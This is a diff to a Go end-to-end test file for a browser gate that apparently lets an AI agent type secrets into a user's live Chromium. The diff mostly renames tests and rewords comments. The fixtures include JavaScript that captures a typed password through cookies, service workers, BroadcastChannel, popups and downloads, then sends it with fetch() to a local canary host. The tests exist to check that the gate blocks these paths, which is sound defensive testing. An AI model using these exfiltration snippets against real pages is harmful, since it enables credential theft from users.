@@ -21,15 +21,15 @@ import (
 	"github.com/browsergate/browsergate/internal/testkit"
 )
 
-// The second attack review of the live user context (issue 31): paths a
-// typed secret or a session page's request could take out through the
-// user's own, unguarded pages and workers. Each runs a user's Chromium, a
-// live session in its default context and the fixture's canary on
-// 127.0.0.2, outside the scope.
+// The user's own pages and workers beside a live session: paths a typed
+// secret or a session page's request could take out through the user's
+// own, unguarded pages and workers. Each runs a user's Chromium, a live
+// session in its default context and the fixture's canary on 127.0.0.2,
+// outside the scope.
 
-// h7SecretManifest is the e2e manifest, live in the user's browser at
+// liveSecretManifest is the e2e manifest, live in the user's browser at
 // endpoint, with APP_PASSWORD bound to 127.0.0.1.
-func h7SecretManifest(endpoint string) string {
+func liveSecretManifest(endpoint string) string {
 	return fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint)) + `[secrets.APP_PASSWORD]
 env = "BROWSERGATE_E2E_SECRET"
 domains = ["127.0.0.1"]
@@ -54,10 +54,10 @@ func workerReady(t *testing.T, user context.Context) {
 	})
 }
 
-// h7Manifest3 is h7SecretManifest with 127.0.0.3 in the scope too
-// (outside the secret's domains) and command with its [browser.files]
+// liveSecretFilesManifest is liveSecretManifest with 127.0.0.3 in the scope
+// too (outside the secret's domains) and command with its [browser.files]
 // directory key = dir.
-func h7Manifest3(endpoint, command, key, dir string) string {
+func liveSecretFilesManifest(endpoint, command, key, dir string) string {
 	return strings.Replace(fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint)),
 		`allowed_domains = ["127.0.0.1"]
 allow_private_cidrs = ["127.0.0.1/32"]`, `allowed_domains = ["127.0.0.1", "127.0.0.3"]
@@ -109,13 +109,13 @@ func workerSite(t *testing.T, endpoint, sw, register, form string) string {
 	return site
 }
 
-// startH7 starts a user's Chromium and a session live in it with
-// h7SecretManifest, and returns the browser's endpoint.
-func startH7(t *testing.T) (*fixture, string) {
+// startLiveSecret starts a user's Chromium and a session live in it with
+// liveSecretManifest, and returns the browser's endpoint.
+func startLiveSecret(t *testing.T) (*fixture, string) {
 	t.Helper()
 	port, _ := startChromium(t)
 	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
-	return startWith(t, h7SecretManifest(endpoint)), endpoint
+	return startWith(t, liveSecretManifest(endpoint)), endpoint
 }
 
 // canaryHasSecret fails the test when the canary saw a request, an
@@ -143,15 +143,15 @@ func (f *fixture) canarySees(t *testing.T, what string, users bool) {
 	}
 }
 
-// TestH7SecretBesideAUsersPageOfTheSite: cookies are a host's, not an
+// TestSecretNotTypedBesideAUsersPageOfTheSite: cookies are a host's, not an
 // origin's (no port, no scheme), and a page of one site frames another
 // origin of it with first-party storage. A user's tab on the field's host
 // at another port reads the cookie the field's page writes the value
 // into, and sends it to the canary: type_text must be refused while it
 // is open, naming it.
-func TestH7SecretBesideAUsersPageOfTheSite(t *testing.T) {
+func TestSecretNotTypedBesideAUsersPageOfTheSite(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	site, _ := serveLogged(t, map[string]string{
 		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
 document.getElementById('pw').addEventListener('input', e => { document.cookie = 'pw=' + encodeURIComponent(e.target.value) + '; path=/'; });
@@ -174,7 +174,7 @@ setInterval(() => { const c = document.cookie; if (c.includes('pw=') && c !== se
 	f.canaryHasSecret(t, "a user's tab of the field's site")
 }
 
-// TestH7SessionPageReachesTheUsersServiceWorker: a session page loses
+// TestSessionPageCannotReachTheUsersServiceWorker: a session page loses
 // navigator.serviceWorker (user_context.js), but a frame it makes has a
 // window of its own. A worker the user's browsing registered on the
 // site (the user's tab then closed) is told by the session's page, through
@@ -183,9 +183,9 @@ setInterval(() => { const c = document.cookie; if (c.includes('pw=') && c !== se
 // serviceWorker (without user_context.js's getter the worker took the
 // value to the canary); a blank document's container refuses
 // (InvalidStateError, Chromium 156).
-func TestH7SessionPageReachesTheUsersServiceWorker(t *testing.T) {
+func TestSessionPageCannotReachTheUsersServiceWorker(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
 self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
 self.addEventListener('message', e => { e.waitUntil(fetch(%q + '?v=' + encodeURIComponent(e.data), {mode: 'no-cors'}).catch(() => {})); });`, f.canaryTo+"/sw"), "", `<title>form</title><input type=password id=pw aria-label=Password><p id=r>-</p><script>
@@ -213,7 +213,7 @@ document.getElementById('pw').addEventListener('input', e => tell(e.target.value
 	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.snapshot", nil))
 }
 
-// TestH7SecretBesideAUsersFrameOfTheSite: a user's tab of another site
+// TestSecretNotSharedWithAUsersFrameOfTheSite: a user's tab of another site
 // (127.0.0.4, outside the scope) frames the field's origin; the frame
 // listens for the value the field's page hands on (a cookie with
 // SameSite=None and Secure, as a loopback page is a secure context,
@@ -224,9 +224,9 @@ document.getElementById('pw').addEventListener('input', e => tell(e.target.value
 // (a profile allowing third-party cookies, partitioning turned off), and
 // the gate would then have to count the user's frames (OOPIF targets) of
 // the field's site too.
-func TestH7SecretBesideAUsersFrameOfTheSite(t *testing.T) {
+func TestSecretNotSharedWithAUsersFrameOfTheSite(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
 	site, _ := serveLogged(t, map[string]string{
 		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
@@ -264,18 +264,18 @@ setInterval(() => {
 	f.canaryHasSecret(t, "a user's frame of the field's site")
 }
 
-// TestH7PageDownloadCarriesTheSecret: after the secret is typed, the
+// TestPageDownloadCannotCarryTheSecret: after the secret is typed, the
 // field's page starts downloads by itself whose URLs carry the value: to
 // a host in the scope but outside the secret's domains (127.0.0.3), to
 // the canary outside the scope, and by a form with a download response.
 // Neither the other host nor the canary sees the value, and the replies
 // do not show it to the agent in any encoding the URLs carry it in.
-func TestH7PageDownloadCarriesTheSecret(t *testing.T) {
+func TestPageDownloadCannotCarryTheSecret(t *testing.T) {
 	t.Parallel()
 	port, _ := startChromium(t)
 	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
 	down := t.TempDir()
-	manifest := h7Manifest3(endpoint, "download", "download_dir", down)
+	manifest := liveSecretFilesManifest(endpoint, "download", "download_dir", down)
 	f := startWith(t, manifest)
 	var mu sync.Mutex
 	var other []string
@@ -362,7 +362,7 @@ document.getElementById('pw').addEventListener('input', e => {
 	t.Logf("127.0.0.3 saw %q", other)
 }
 
-// TestH7DisownedOpenerComesBackByName: a user's tab outside the scope
+// TestSecretNotTypedBesideADisownedOpener: a user's tab outside the scope
 // (127.0.0.4) opens the site's form as a named popup, which disowns its
 // opener (window.opener = null): of different origins with the link cut,
 // the two are not taken for one group, so the popup is adopted and the
@@ -370,9 +370,9 @@ document.getElementById('pw').addEventListener('input', e => {
 // (only noopener makes a new one): once the opener moves itself to the
 // site's origin it finds the popup by name and reads the field. The
 // secret must not be typed while such a page is there.
-func TestH7DisownedOpenerComesBackByName(t *testing.T) {
+func TestSecretNotTypedBesideADisownedOpener(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
 	site, _ := serveLogged(t, map[string]string{
 		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>window.opener = null</script>`,
@@ -415,14 +415,14 @@ try {
 	f.canarySees(t, "the disowned opener, back by name", true)
 }
 
-// TestH7LivePageDownloadsDecidedByCedar: in the user's own browser, the
+// TestLivePageDownloadsAreDecidedByCedar: in the user's own browser, the
 // downloads a page starts by itself (a link it clicks, a data: URL, a
 // blob) are decided by Cedar as in a browser of browsergate's: in the
 // session's own tab, and in a user's tab whose adoption reload starts
 // them (the page downloads only when reloaded). A policy forbidding the
 // downloads of /auto refuses all six; none is saved, in download_dir,
 // the staging directory or the user's download folder.
-func TestH7LivePageDownloadsDecidedByCedar(t *testing.T) {
+func TestLivePageDownloadsAreDecidedByCedar(t *testing.T) {
 	t.Parallel()
 	port, _ := startChromium(t)
 	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
@@ -494,7 +494,7 @@ download_dir = %q
 	}
 }
 
-// TestH7UsersServiceWorkerAndWindowsOutOfTheSessionsReach: a service
+// TestUsersServiceWorkerAndWindowsOutOfTheSessionsReach: a service
 // worker the user's browsing registered on the site answers every
 // navigation and frame with a document of its own and tells a server of
 // its own; the user's tab of another site is named "uw". The session's own
@@ -504,9 +504,9 @@ download_dir = %q
 // window named "uw": the user's is in another browsing-context group, so
 // the link opens a new popup of the session's, and the user's window
 // stays where it was.
-func TestH7UsersServiceWorkerAndWindowsOutOfTheSessionsReach(t *testing.T) {
+func TestUsersServiceWorkerAndWindowsOutOfTheSessionsReach(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
 	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		switch r.URL.Path {
@@ -581,14 +581,14 @@ self.addEventListener('fetch', e => {
 	f.settleAndCheckCanary(t, "the session's page opening a window by the user's window's name")
 }
 
-// TestH7UploadedFileCarriesTheSecret: a file in upload_dir holds a
+// TestUploadedFileCannotCarryTheSecret: a file in upload_dir holds a
 // secret's value (a page's download of it saved there, or an operator's
 // file). Attaching it to a page outside the secret's domains (127.0.0.3,
 // in the scope) and sending the form there would take the value where
 // type_text may not: refused at stage secrets. Attached on the secret's
 // own site, the page reads the file and sends it to 127.0.0.3: the value
 // is held to its domains as a typed one is. 127.0.0.3 never sees it.
-func TestH7UploadedFileCarriesTheSecret(t *testing.T) {
+func TestUploadedFileCannotCarryTheSecret(t *testing.T) {
 	t.Parallel()
 	port, _ := startChromium(t)
 	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
@@ -596,7 +596,7 @@ func TestH7UploadedFileCarriesTheSecret(t *testing.T) {
 	if err := os.WriteFile(filepath.Join(up, "creds.txt"), []byte("user=me\npassword="+secretValue+"\n"), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	manifest := h7Manifest3(endpoint, "upload_file", "upload_dir", up)
+	manifest := liveSecretFilesManifest(endpoint, "upload_file", "upload_dir", up)
 	// The shipped policy asks a human for every upload, who sees the
 	// file's name, size and hash, not that it holds the value: without
 	// it, as an operator may run, the gate alone must hold the value.
@@ -649,7 +649,7 @@ document.getElementById('file').addEventListener('change', e => e.target.files[0
 	}
 }
 
-// TestH7PageDownloadNamedByTheSecret: after the secret is typed, the
+// TestPageDownloadNamedByTheSecretIsMasked: after the secret is typed, the
 // page saves a blob download named by the value and holding it. The
 // agent's replies and the evidence do not show the value in the file's
 // name (the masker's runs). What a page transforms beyond the spellings
@@ -657,12 +657,12 @@ document.getElementById('file').addEventListener('change', e => e.target.files[0
 // characters) and the file's SHA-256 and size, which the reply gives, are
 // the page's own choice of what to show: a page that has the value can
 // always show it transformed.
-func TestH7PageDownloadNamedByTheSecret(t *testing.T) {
+func TestPageDownloadNamedByTheSecretIsMasked(t *testing.T) {
 	t.Parallel()
 	port, _ := startChromium(t)
 	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
 	down := t.TempDir()
-	f := startWith(t, h7Manifest3(endpoint, "download", "download_dir", down))
+	f := startWith(t, liveSecretFilesManifest(endpoint, "download", "download_dir", down))
 	site, _ := serveLogged(t, map[string]string{
 		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
 let done = false;
@@ -696,15 +696,15 @@ document.getElementById('pw').addEventListener('input', e => {
 	}
 }
 
-// TestH7SecretBesideAUsersWorkerOfTheSite: a service worker the user's
+// TestSecretNotTypedBesideAUsersWorkerOfTheSite: a service worker the user's
 // browsing started on the site is still running when the user's tab of
 // it has closed; it listens on a BroadcastChannel, which a session's page
 // of the site shares (user_context.js leaves BroadcastChannel), and sends
 // what it hears to the canary. type_text must be refused while such a
 // worker runs, naming it.
-func TestH7SecretBesideAUsersWorkerOfTheSite(t *testing.T) {
+func TestSecretNotTypedBesideAUsersWorkerOfTheSite(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
 self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
 new BroadcastChannel('pw').onmessage = m => fetch(%q + '?v=' + encodeURIComponent(m.data), {mode: 'no-cors'}).catch(() => {});
@@ -722,14 +722,14 @@ document.getElementById('pw').addEventListener('input', e => bc.postMessage(e.ta
 	f.canaryHasSecret(t, "a user's worker of the site")
 }
 
-// TestH7SecretWakesTheUsersWorker: the user's service worker of the site
+// TestSecretCannotWakeTheUsersWorker: the user's service worker of the site
 // is stopped when the secret is typed, but subscribed to the site's
 // cookies (Cookie Store API): the field's page writes the value into a
 // cookie, which wakes the worker with the cookie's value, and the worker
 // sends it to the canary.
-func TestH7SecretWakesTheUsersWorker(t *testing.T) {
+func TestSecretCannotWakeTheUsersWorker(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
 	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
 self.addEventListener('activate', e => e.waitUntil(self.registration.cookies.subscribe([{name: 'pw', url: self.registration.scope}]).catch(err => fetch(%[2]q + '?err=' + encodeURIComponent(String(err)), {mode: 'no-cors'}))));
